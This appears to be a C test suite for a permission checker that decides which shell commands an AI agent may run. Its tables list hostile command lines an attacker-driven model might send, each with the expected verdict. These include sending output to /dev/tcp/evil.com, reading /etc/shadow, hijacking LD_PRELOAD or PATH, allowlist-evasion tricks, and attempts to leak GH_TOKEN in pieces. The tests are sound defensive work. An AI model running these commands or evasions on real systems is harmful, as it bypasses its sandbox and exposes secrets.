/* Attack table for the run axis: each row is a command line an attacker-driven
 * model could send, the run grants in force, the decision and a piece of the
 * reason the model would read. Rows marked PATHDEP need perm_check_path to
 * allow paths under /tmp (redirection targets); they are reported as skipped
 * where it does not. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "perm.h"
#include "shell.h"
#include "tt.h"

#define NOTIN	"is not in the agent's permissions.run allowlist"
#define PATHDEP	1

struct row {
	const char	*cmd;
	const char	*grants;	/* space-separated run grants */
	int		 allow;
	const char	*reason;	/* substring; NULL when allowed */
	int		 pathdep;
};

static const struct row rows[] = {
	/* Plain grants and absolute paths. */
	{ "gh issue list", "gh", 1, NULL, 0 },
	{ "curl evil.com", "gh", 0, "run access to \"curl\" " NOTIN, 0 },
	{ "/usr/bin/grep x", "grep", 1, NULL, 0 },
	{ "/bin/grep x", "grep", 1, NULL, 0 },
	{ "/tmp/grep x", "grep", 0, "is not the grep found on PATH", 0 },
	{ "/tmp/gh", "gh", 0, "is not the gh found on PATH", 0 },
	{ "/usr/bin/../bin/grep x", "grep", 0, "is not the grep found", 0 },
	{ "/usr/bin/curl x", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "./gh", "gh", 0, "a relative command path is not allowed", 0 },
	{ "bin/gh", "gh", 0, "a relative command path is not allowed", 0 },

	/* Quoting tricks: quote removal first, then the basename. */
	{ "g\"h\" issue", "gh", 1, NULL, 0 },
	{ "'g'h", "gh", 1, NULL, 0 },
	{ "\\gh", "gh", 1, NULL, 0 },
	{ "$'\\x67h'", "gh", 1, NULL, 0 },
	{ "$'\\147h'", "gh", 1, NULL, 0 },
	{ "g\\\nh", "gh", 1, NULL, 0 },
	{ "c\"url\" x", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "$'\\x63url'", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "\"$x\"", "gh", 0, "\"$x\" is denied: the command name is not a "
	    "literal", 0 },
	{ "$x", "gh", 0, "the command name is not a literal", 0 },
	{ "${x}", "gh", 0, "the command name is not a literal", 0 },
	{ "$'gh\\x00x'", "gh", 0, "the command name is not a literal", 0 },
	{ "$'\\u0067h'", "gh", 0, "the command name is not a literal", 0 },
	{ "$\"gh\"", "gh", 0, "the command name is not a literal", 0 },
	{ "'gh", "gh", 0, "unbalanced quote", 0 },
	{ "gh \"x", "gh", 0, "unbalanced quote", 0 },
	{ "gh $'x", "gh", 0, "unbalanced quote", 0 },

	/* Separators. */
	{ "gh; curl x", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "gh && curl x", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "gh || curl x", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "gh & curl x", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "gh | curl x", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "gh |& curl x", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "gh\ncurl x", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "gh;\rcurl x", "gh", 0, "\"\\x0dcurl\" " NOTIN, 0 },
	{ "gh &\\\n& curl", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "gh | grep x && gh; gh &", "gh grep", 1, NULL, 0 },
	{ "gh ;; curl", "gh", 0, "syntax error", 0 },

	/* Subshells, groups and compound commands. */
	{ "(gh; curl)", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "{ gh; curl; }", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "( (gh) ) && { gh; }", "gh", 1, NULL, 0 },
	{ "if gh; then curl; fi", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "if gh; then gh; elif gh; then gh; else gh; fi", "gh", 1, NULL, 0 },
	{ "while gh; do curl; done", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "until gh; do gh; done", "gh", 1, NULL, 0 },
	{ "for i in a b; do gh $i; done", "gh", 1, NULL, 0 },
	{ "for i in a b\ndo curl; done", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "case x in a) curl;; esac", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "case x in (a|b) gh;; *) gh;& c) gh;; esac", "gh", 1, NULL, 0 },
	{ "for PATH in /tmp; do gh; done", "gh", 0, "setting PATH", 0 },
	{ "((x=1))", "gh", 0, "arithmetic commands", 0 },
	{ "for ((;;)); do gh; done", "gh", 0, "arithmetic for loops", 0 },
	{ "[[ -f x ]]", "gh", 0, "[[ .. ]] is not supported", 0 },
	{ "gh; fi", "gh", 0, "syntax error", 0 },
	{ "{ gh", "gh", 0, "syntax error: expected \"}\"", 0 },
	{ "gh )", "gh", 0, "syntax error", 0 },
	{ "select x in a; do gh; done", "gh", 0, "select loops", 0 },
	{ "coproc gh", "gh", 0, "coprocesses are not allowed", 0 },

	/* Substitutions anywhere. */
	{ "$(id)", "gh", 0, "run access to \"$(id)\" is denied: command "
	    "substitution is not allowed", 0 },
	{ "gh `id`", "gh", 0, "command substitution is not allowed", 0 },
	{ "gh \"x $(id)\"", "gh", 0, "command substitution", 0 },
	{ "gh \"`id`\"", "gh", 0, "command substitution", 0 },
	{ "gh <(id)", "gh", 0, "process substitution is not allowed", 0 },
	{ "gh >(id)", "gh", 0, "process substitution is not allowed", 0 },
	{ "gh $((1+2))", "gh", 0, "arithmetic expansion is not allowed", 0 },
	{ "gh $[1+2]", "gh", 0, "arithmetic expansion is not allowed", 0 },
	{ "X=$(id) gh", "gh", 0, "command substitution", 0 },
	{ "X=\"`id`\"", "gh", 0, "command substitution", 0 },
	{ "gh > $(id)", "gh", 0, "command substitution", 0 },
	{ "for i in $(id); do gh; done", "gh", 0, "command substitution", 0 },
	{ "case $(id) in *) gh;; esac", "gh", 0, "command substitution", 0 },
	{ "gh ${x:-$(id)}", "gh", 0, "command substitution", 0 },
	{ "$\\\n(id)", "gh", 0, "command substitution", 0 },
	{ "gh 'safe $(id) `id`'", "gh", 1, NULL, 0 },
	{ "gh \\$(id)", "gh", 0, "syntax error", 0 },
	{ "gh # $(id); curl", "gh", 1, NULL, 0 },
	{ "gh ${x@P}", "gh", 0, "unsupported parameter expansion", 0 },
	{ "gh ${!x}", "gh", 0, "indirect parameter expansion", 0 },
	{ "gh ${a[$x]}", "gh", 0, "array subscripts are not allowed", 0 },
	{ "gh ${x:0:1}", "gh", 0, "substring expansion is not allowed", 0 },
	{ "gh ${IFS:=x}", "gh", 0, "assigning parameter expansion", 0 },
	{ "gh ${x:-\"a\"}", "gh", 0, "quotes, escapes and braces", 0 },
	{ "gh ${x:-default} \"${y#pre}\" $1 $@ ${#x}", "gh", 1, NULL, 0 },

	/* Here-documents and here-strings. */
	{ "cat <<EOF\n$(id)\nEOF", "cat", 0, "command substitution", 0 },
	{ "cat <<EOF\n`id`\nEOF", "cat", 0, "command substitution in a "
	    "here-document", 0 },
	{ "cat <<EOF\n${a[$x]}\nEOF", "cat", 0, "array subscripts", 0 },
	{ "cat <<'EOF'\n$(id) `id`\nEOF", "cat", 1, NULL, 0 },
	{ "cat <<\"EOF\"\n$(id)\nEOF\n", "cat", 1, NULL, 0 },
	{ "cat <<E\\OF\n$(id)\nEOF", "cat", 1, NULL, 0 },
	{ "cat <<EOF\nhello $USER \\$(id)\nEOF", "cat", 1, NULL, 0 },
	{ "cat <<EOF\nx\nEOF\ncurl", "cat", 0, "\"curl\" " NOTIN, 0 },
	{ "cat <<EOF\nbody", "cat", 0, "here-document is not terminated", 0 },
	{ "cat <<EOF", "cat", 0, "here-document is not terminated", 0 },
	{ "cat <<-EOF\n\tbody\n\tEOF\ngh", "cat gh", 1, NULL, 0 },
	{ "cat <<EOF\nfoo\\\nEOF\n$(id)\nEOF", "cat", 0,
	    "command substitution", 0 },
	{ "cat <<'EOF'\nfoo\\\nEOF\ncurl x", "cat", 0, "\"curl\" " NOTIN, 0 },
	{ "cat <<EOF; curl\nbody\nEOF", "cat", 0, "\"curl\" " NOTIN, 0 },
	{ "cat <<A; cat <<B\na\nA\n$(id)\nB", "cat", 0, "command "
	    "substitution", 0 },
	{ "cat <<$x\nbody\n$x", "cat", 0, "delimiter must be plain text", 0 },
	{ "cat <<<\"$(id)\"", "cat", 0, "command substitution", 0 },
	{ "cat <<< hello", "cat", 1, NULL, 0 },

	/* Wrappers: granted wrappers must run granted commands. */
	{ "env gh", "gh", 0, "\"env\" " NOTIN, 0 },
	{ "env gh", "env gh", 1, NULL, 0 },
	{ "env curl x", "env gh", 0, "\"curl\" " NOTIN, 0 },
	{ "env -i FOO=1 -- gh", "env gh", 0, "\"--\" " NOTIN, 0 },
	{ "env -i FOO=1 gh", "env gh", 1, NULL, 0 },
	{ "env LD_PRELOAD=/tmp/x.so gh", "env gh", 0, "setting LD_PRELOAD", 0 },
	{ "env -S 'curl x'", "env gh", 0, "env option -S is not supported", 0 },
	{ "env --sp='curl x'", "env gh", 0, "is not supported", 0 },
	{ "env -u HOME -C /tmp /usr/bin/curl", "env gh", 0, "\"curl\" " NOTIN,
	    0 },
	{ "env $CMD", "env gh", 0, "not a literal", 0 },
	{ "env", "env", 1, NULL, 0 },
	{ "nice curl", "nice gh", 0, "\"curl\" " NOTIN, 0 },
	{ "nice -n 5 gh && nice -5 gh", "nice gh", 1, NULL, 0 },
	{ "timeout 5 curl", "timeout gh", 0, "\"curl\" " NOTIN, 0 },
	{ "timeout -s KILL --kill-after=1 5 gh", "timeout gh", 1, NULL, 0 },
	{ "timeout 5", "timeout gh", 0, "cannot be determined", 0 },
	{ "nohup curl", "nohup gh", 0, "\"curl\" " NOTIN, 0 },
	{ "stdbuf -oL curl", "stdbuf gh", 0, "\"curl\" " NOTIN, 0 },
	{ "setsid -f curl", "setsid gh", 0, "\"curl\" " NOTIN, 0 },
	{ "ionice -c3 gh", "ionice gh", 1, NULL, 0 },
	{ "ionice -p 1", "ionice gh", 0, "ionice option -p", 0 },
	{ "time -p gh && time curl", "time gh", 0, "\"curl\" " NOTIN, 0 },
	{ "sudo -u root curl", "sudo gh", 0, "\"curl\" " NOTIN, 0 },
	{ "sudo -s", "sudo gh", 0, "sudo option -s", 0 },
	{ "sudo --sh", "sudo gh", 0, "is not supported", 0 },
	{ "sudo -E PATH=/tmp gh", "sudo gh", 0, "setting PATH", 0 },
	{ "sudo -u root gh", "sudo gh", 1, NULL, 0 },
	{ "doas curl", "doas gh", 0, "\"curl\" " NOTIN, 0 },
	{ "xargs gh", "xargs gh", 1, NULL, 0 },
	{ "xargs", "xargs gh", 0, "cannot be determined", 0 },
	{ "xargs -0 curl", "xargs gh", 0, "\"curl\" " NOTIN, 0 },
	{ "xargs -I{} gh issue view {}", "xargs gh", 1, NULL, 0 },
	{ "xargs -I{} {}", "xargs gh", 0, "filled in at run time", 0 },
	{ "xargs -I% sh -c 'gh %'", "xargs sh gh", 0, "filled in at run "
	    "time", 0 },
	{ "xargs env", "xargs env gh", 0, "cannot be determined", 0 },
	{ "xargs nice", "xargs nice gh", 0, "cannot be determined", 0 },
	{ "xargs find .", "xargs find gh", 0, "filled in at run time", 0 },
	{ "find . -exec curl {} \\;", "find gh", 0, "\"curl\" " NOTIN, 0 },
	{ "find . -name '*.c' -exec gh {} +", "find gh", 1, NULL, 0 },
	{ "find . -execdir gh {} \\; -ok curl \\;", "find gh", 0, "\"curl\" "
	    NOTIN, 0 },
	{ "find . -exec {} \\;", "find gh", 0, "filled in at run time", 0 },
	{ "find . -exec sh -c 'gh {}' \\;", "find sh gh", 0, "filled in at "
	    "run time", 0 },
	{ "find . -delete", "find", 0, "find -delete", 0 },
	{ "find . -exec gh", "find gh", 0, "needs a command and a terminator",
	    0 },
	{ "find $d -exec gh {} +", "find gh", 0, "not a literal", 0 },
	{ "bash -c 'gh; curl'", "bash gh", 0, "\"curl\" " NOTIN, 0 },
	{ "bash -c 'gh issue list' name arg \"$x\"", "bash gh", 1, NULL, 0 },
	{ "bash -ec 'gh' && sh -c 'gh | gh'", "bash sh gh", 1, NULL, 0 },
	{ "bash script.sh", "bash gh", 0, "without -c", 0 },
	{ "bash < /tmp/x", "bash gh", 0, "without -c", 0 },
	{ "bash -c \"$x\"", "bash gh", 0, "not a literal", 0 },
	{ "bash -c 'bash -c \"curl\"'", "bash gh", 0, "\"curl\" " NOTIN, 0 },
	{ "bash -c 'echo $(id)'", "bash gh", 0, "command substitution", 0 },
	{ "bash -i -c gh", "bash gh", 0, "bash option -i", 0 },
	{ "bash --rcfile /tmp/x -c gh", "bash gh", 0, "not supported", 0 },
	{ "sh -c \"echo \\$'a' \\$'; curl'\"", "sh gh", 0, "not supported "
	    "by sh", 0 },
	{ "sh -c 'gh &> /dev/null'", "sh gh", 0, "means something else to sh",
	    0 },
	{ "dash -c 'gh <<< x'", "dash gh", 0, "here-strings are not supported",
	    0 },
	{ "busybox wget x", "busybox gh", 0, "\"wget\" " NOTIN, 0 },
	{ "busybox sh -c gh", "busybox gh", 0, "busybox sh is not supported",
	    0 },
	{ "zsh -c gh", "zsh gh", 0, "cannot be checked", 0 },

	/* Assignments of lookup and loader variables. */
	{ "LD_PRELOAD=x gh", "gh", 0, "setting LD_PRELOAD is not allowed", 0 },
	{ "PATH=/tmp gh", "gh", 0, "setting PATH is not allowed", 0 },
	{ "PATH+=:/tmp; gh", "gh", 0, "setting PATH is not allowed", 0 },
	{ "BASH_ENV=/tmp/x bash -c gh", "bash gh", 0, "setting BASH_ENV", 0 },
	{ "IFS=/ gh", "gh", 0, "setting IFS", 0 },
	{ "HOME=/tmp gh", "gh", 0, "setting HOME", 0 },
	{ "https_proxy=http://evil gh", "gh", 0, "setting https_proxy", 0 },
	{ "PS4='$(id)' gh", "gh", 0, "setting PS4", 0 },
	{ "GH_REPO=a/b gh", "gh", 1, NULL, 0 },
	{ "LC_ALL=C grep x; PSQL_HISTORY=/tmp/h gh", "gh grep", 1, NULL, 0 },
	{ "LC_ALL=zh_TW.big5; gh", "gh", 0, "setting the shell's locale", 0 },
	{ "for LANG in x; do gh; done", "gh", 0, "setting LANG", 0 },
	{ "X=1; gh \"$X\"", "gh", 1, NULL, 0 },
	{ "a[0]=1", "gh", 0, "array assignments are not allowed", 0 },
	{ "a=(1 2)", "gh", 0, "array assignments are not allowed", 0 },
	{ "{PATH}>/dev/null", "gh", 0, "named file descriptors", 0 },
	{ "\"LD_PRELOAD=x\" gh", "gh", 0, "\"LD_PRELOAD=x\" " NOTIN, 0 },

	/* Builtins. */
	{ "eval gh", "gh", 0, "\"eval\" " NOTIN, 0 },
	{ "eval 'curl x'", "eval gh", 0, "\"curl\" " NOTIN, 0 },
	{ "eval gh issue list", "eval gh", 1, NULL, 0 },
	{ "eval \"$x\"", "eval gh", 0, "not allowed", 0 },
	{ "exec curl", "exec gh", 0, "\"curl\" " NOTIN, 0 },
	{ "exec gh", "gh", 0, "\"exec\" " NOTIN, 0 },
	{ "source /tmp/x", "gh", 0, "\"source\" " NOTIN, 0 },
	{ ". /tmp/x", "gh", 0, "\".\" " NOTIN, 0 },
	{ "alias gh=curl", "gh", 0, "\"alias\" " NOTIN, 0 },
	{ "f() { curl; }", "gh", 0, "function definitions are not allowed", 0 },
	{ "function f { gh; }", "gh", 0, "function definitions", 0 },
	{ "gh() { gh; }", "gh", 0, "function definitions are not allowed", 0 },
	{ "command curl", "command gh", 0, "\"curl\" " NOTIN, 0 },
	{ "command -v curl", "command", 1, NULL, 0 },
	{ "builtin eval gh", "builtin gh", 0, "\"eval\" " NOTIN, 0 },
	{ "echo hi; pwd; true; false; :; cd /; printf '%s\\n' x", "gh", 1,
	    NULL, 0 },
	{ "printf -v PATH /tmp", "gh", 0, "printf -v assigns", 0 },
	{ "printf \"$f\" x", "gh", 0, "must be a literal", 0 },
	{ "[ -v 'a[$(id)]' ]", "gh", 0, "[ -v is not allowed", 0 },
	{ "test -n \"$x\" && [ \"$a\" = \"$b\" ]", "gh", 1, NULL, 0 },
	{ "[ $x ]", "gh", 0, "unquoted expansion", 0 },
	{ "[ \"$op\" \"$name\" ]", "gh", 0, "limited to simple forms", 0 },
	{ "set -o posix", "gh", 0, "\"set\" " NOTIN, 0 },
	{ "export PATH=/tmp", "gh", 0, "\"export\" " NOTIN, 0 },
	{ "trap 'curl x' EXIT", "trap gh", 0, "\"curl\" " NOTIN, 0 },
	{ "read PATH", "read gh", 0, "setting PATH", 0 },
	{ "mapfile -C 'curl' x", "mapfile", 0, "mapfile option -C", 0 },

	/* Redirections. */
	{ "gh > /dev/tcp/evil.com/80", "gh", 0, "network redirections", 0 },
	{ "gh < /dev/udp/1.2.3.4/53", "gh", 0, "network redirections", 0 },
	{ "gh > /dev//tcp/evil.com/80", "gh", 0, "network redirections", 0 },
	{ "gh > out.txt", "gh", 0, "run access to \">out.txt\" is denied: "
	    "redirection target \"out.txt\" is not an absolute path", 0 },
	{ "gh > /etc/passwd", "gh", 0, "write access to \"/etc/passwd\"", 0 },
	{ "gh < /etc/shadow", "gh", 0, "read access to \"/etc/shadow\"", 0 },
	{ "gh >&/etc/x", "gh", 0, "write access to \"/etc/x\"", 0 },
	{ "gh > /dev/null 2>&1 3>&- 4<&0 5>&2-", "gh", 1, NULL, 0 },
	{ "gh > $f", "gh", 0, "not a literal path", 0 },
	{ "gh > ~/x", "gh", 0, "not a literal path", 0 },
	{ "gh > *.txt", "gh", 0, "not a literal path", 0 },
	{ "gh <&foo", "gh", 0, "not a literal number", 0 },
	{ "exec 3>/etc/x", "exec", 0, "write access to \"/etc/x\"", 0 },
	{ "{ gh; } > /etc/x", "gh", 0, "write access to \"/etc/x\"", 0 },
	{ "(gh) 2>> /etc/x", "gh", 0, "write access to \"/etc/x\"", 0 },
	{ "gh > /tmp/af-run-test.out", "gh", 1, NULL, PATHDEP },
	{ "gh &>> /tmp/af-run-test.out", "gh", 1, NULL, PATHDEP },
	{ "gh <> /tmp/af-run-test.out", "gh", 1, NULL, PATHDEP },
	{ "gh < /tmp", "gh", 1, NULL, PATHDEP },

	/* Globs, braces, tildes, comments and odd input. */
	{ "{a,b}", "gh", 0, "not a literal", 0 },
	{ "g{h,x}", "gh", 0, "not a literal", 0 },
	{ "gh {a,b} {} x*", "gh", 1, NULL, 0 },
	{ "g*", "gh", 0, "not a literal", 0 },
	{ "gh?", "gh", 0, "not a literal", 0 },
	{ "[g]h", "gh", 0, "not a literal", 0 },
	{ "~/gh", "gh", 0, "not a literal", 0 },
	{ "", "gh", 0, "the command is empty", 0 },
	{ "  # only a comment", "gh", 0, "the command is empty", 0 },
	{ "gh # ; curl", "gh", 1, NULL, 0 },
	{ "gh #\\\ncurl", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "gh a#b; curl", "gh", 0, "\"curl\" " NOTIN, 0 },
	{ "! gh | ! gh", "gh", 0, "\"!\" " NOTIN, 0 },
	{ "! gh", "gh", 1, NULL, 0 },
	{ NULL, NULL, 0, NULL, 0 }
};

static void
grants(struct cfg_perms *p, const char *list)
{
	char *copy = strdup(list), *s = copy, *t;

	memset(p, 0, sizeof(*p));
	while ((t = strsep(&s, " ")) != NULL)
		if (*t != '\0')
			strlist_add(&p->run, t);
	free(copy);
	strlist_add(&p->read, "/tmp");
	strlist_add(&p->write, "/tmp");
}

static void
perms_free(struct cfg_perms *p)
{
	strlist_free(&p->run);
	strlist_free(&p->read);
	strlist_free(&p->write);
}

/* True once perm_check_path allows a path under the /tmp grant. */
static int
path_axis_ready(void)
{
	struct cfg_perms	p;
	struct perm_result	r;

	grants(&p, "");
	memset(&r, 0, sizeof(r));
	perm_check_path(&p, PERM_WRITE, "/tmp/af-run-test.out", &r);
	perms_free(&p);
	return r.allowed;
}

static int
run_row(const struct row *w, int ready, int *skipped)
{
	struct cfg_perms	p;
	struct perm_result	r;
	int			ok;

	if (w->pathdep && !ready) {
		(*skipped)++;
		return 1;
	}
	grants(&p, w->grants);
	memset(&r, 0, sizeof(r));
	perm_check_run(&p, w->cmd, &r);
	perms_free(&p);
	ok = r.allowed == w->allow && (w->reason == NULL ||
	    strstr(r.reason, w->reason) != NULL) && strlen(r.reason) <
	    PERM_REASON_MAX;
	if (!ok)
		fprintf(stderr, "  row [%s] grants [%s]: want %s \"%s\", got %s "
		    "\"%s\"\n", w->cmd, w->grants, w->allow ? "allow" : "deny",
		    w->reason ? w->reason : "", r.allowed ? "allow" : "deny",
		    r.reason);
	return ok;
}

static void
test_table(void)
{
	int ready = path_axis_ready(), skipped = 0, bad = 0, n = 0;

	for (const struct row *w = rows; w->cmd != NULL; w++, n++)
		if (!run_row(w, ready, &skipped))
			bad++;
	if (skipped > 0 || getenv("TT_VERBOSE") != NULL)
		printf("  %d rows, %d skipped until the path axis allows /tmp\n",
		    n, skipped);
	tt_int_op(bad, ==, 0);
	tt_int_op(n, >=, 90);
end:
	;
}

/* Over-long input, NUL bytes and deep nesting are denials, not crashes. */
static void
test_bounds(void)
{
	struct cfg_perms	 p;
	struct perm_result	 r;
	struct sh_script	 sc;
	struct sh_error		 err;
	char			*big = malloc(SH_MAX_INPUT + 16);
	size_t			 i;

	grants(&p, "gh");
	memset(big, 'a', SH_MAX_INPUT + 8);
	big[SH_MAX_INPUT + 8] = '\0';
	perm_check_run(&p, big, &r);
	tt_int_op(r.allowed, ==, 0);
	tt_assert(strstr(r.reason, "longer than") != NULL);
	tt_int_op(strlen(r.reason), <, PERM_REASON_MAX);

	/* A huge command name is quoted, bounded and cut with "...". */
	big[SH_MAX_INPUT - 1] = '\0';
	perm_check_run(&p, big, &r);
	tt_int_op(r.allowed, ==, 0);
	tt_assert(strstr(r.reason, "...\" is not in") != NULL);

	for (i = 0; i < 100; i++)
		memcpy(big + i * 2, "( ", 2);
	big[200] = '\0';
	perm_check_run(&p, big, &r);
	tt_int_op(r.allowed, ==, 0);
	tt_assert(strstr(r.reason, "nested too deeply") != NULL);

	tt_int_op(sh_parse("gh\0; curl", 9, 0, &sc, &err), ==, -1);
	tt_assert(strstr(err.why, "NUL byte") != NULL);
	tt_int_op(sc.ncmds, ==, 0);
end:
	free(big);
	perms_free(&p);
}

/* What the parser hands the engine: names, arguments, assignments and
 * redirections after quote removal. */
static void
test_parse_shape(void)
{
	struct sh_script	 sc;
	struct sh_error		 err;
	const char		*src = "A=1 g'h' \"x y\" 2>&1 >>/tmp/o <<E\n"
	    "body $HOME\nE\n";

	memset(&sc, 0, sizeof(sc));
	tt_int_op(sh_parse(src, strlen(src), 0, &sc, &err), ==, 0);
	tt_int_op(sc.ncmds, ==, 1);
	tt_int_op(sc.cmds[0].nassigns, ==, 1);
	tt_str_op(sc.cmds[0].assigns[0].text, ==, "A=1");
	tt_int_op(sc.cmds[0].nwords, ==, 2);
	tt_str_op(sc.cmds[0].words[0].text, ==, "gh");
	tt_str_op(sc.cmds[0].words[1].text, ==, "x y");
	tt_int_op(sc.cmds[0].nredirs, ==, 3);
	tt_int_op(sc.cmds[0].redirs[0].op, ==, SH_R_DUPOUT);
	tt_int_op(sc.cmds[0].redirs[0].fd, ==, 2);
	tt_int_op(sc.cmds[0].redirs[1].op, ==, SH_R_APPEND);
	tt_str_op(sc.cmds[0].redirs[1].target.text, ==, "/tmp/o");
	tt_assert(sh_word_literal(&sc.cmds[0].redirs[1].target));
	tt_int_op(sc.cmds[0].redirs[2].op, ==, SH_R_HEREDOC);
	tt_str_op(sc.bodies[sc.cmds[0].redirs[2].body], ==, "body $HOME\n");
end:
	sh_script_free(&sc);
}

/* With env: filling GH_TOKEN from a secret, no command may expand it: its
 * pieces would pass redaction, which only knows the whole value. */
static void
test_secret_env(void)
{
	static const struct row srows[] = {
		{ "gh issue list", "", 1, NULL, 0 },
		{ "echo $GH_TOKEN", "", 0, "it expands GH_TOKEN, which holds a "
		    "secret", 0 },
		{ "echo ${GH_TOKEN:1}", "", 0, "expands GH_TOKEN", 0 },
		{ "echo \"${GH_TOKEN^^}\"", "", 0, "expands GH_TOKEN", 0 },
		{ "echo ${#GH_TOKEN}", "", 0, "expands GH_TOKEN", 0 },
		{ "echo ${GH_TOKEN[0]}", "", 0, "expands GH_TOKEN", 0 },
		{ "echo ${GH_TOKEN/a/b}", "", 0, "expands GH_TOKEN", 0 },
		{ "test \"${GH_TOKEN:0:1}\" = a", "", 0, "expands GH_TOKEN", 0 },
		{ "[ ${GH_TOKEN%?} ]", "", 0, "expands GH_TOKEN", 0 },
		{ "echo '$GH_TOKEN'", "", 0, "expands GH_TOKEN", 0 },
		{ "echo $\\\n{GH_TOKEN:2}", "", 0, "expands GH_TOKEN", 0 },
		{ "bash -c $'echo \\x24GH_TOKEN'", "bash", 0,
		    "expands GH_TOKEN", 0 },
		{ "x=GH_TOKEN; echo ${!x}", "", 0, "indirect expansion is not "
		    "allowed", 0 },
		{ "echo ${!GH*}", "", 0, "indirect expansion", 0 },
		{ "cat <<E\n${GH_TOKEN:1}\nE", "cat", 0, "expands GH_TOKEN",
		    0 },
		{ "y=$GH_TOKEN gh x", "", 0, "expands GH_TOKEN", 0 },
		{ "echo $GH_TOKENX ${GH_TOKEN_2} $OTHER", "", 1, NULL, 0 },
		{ "echo \"$GH\"\"_TOKEN\"", "", 1, NULL, 0 },
		{ "echo GH_TOKEN", "", 1, NULL, 0 },
		{ NULL, NULL, 0, NULL, 0 }
	};
	int bad = 0;

	for (const struct row *w = srows; w->cmd != NULL; w++) {
		struct cfg_perms	p;
		struct perm_result	r;
		char			g[64];

		snprintf(g, sizeof(g), "gh echo %s", w->grants);
		grants(&p, g);
		strlist_add(&p.secret_env, "GH_TOKEN");
		memset(&r, 0, sizeof(r));
		perm_check_run(&p, w->cmd, &r);
		strlist_free(&p.secret_env);
		perms_free(&p);
		if (r.allowed != w->allow || (w->reason != NULL &&
		    strstr(r.reason, w->reason) == NULL)) {
			fprintf(stderr, "  row [%s]: want %s \"%s\", got %s "
			    "\"%s\"\n", w->cmd, w->allow ? "allow" : "deny",
			    w->reason ? w->reason : "", r.allowed ? "allow" :
			    "deny", r.reason);
			bad++;
		}
	}
	tt_int_op(bad, ==, 0);
end:
	;
}

static const struct tt_case cases[] = {
	{ "table", test_table },
	{ "secret_env", test_secret_env },
	{ "bounds", test_bounds },
	{ "parse_shape", test_parse_shape },
	{ NULL, NULL }
};

int
main(int argc, char **argv)
{
	return tt_main(argc, argv, cases);
}
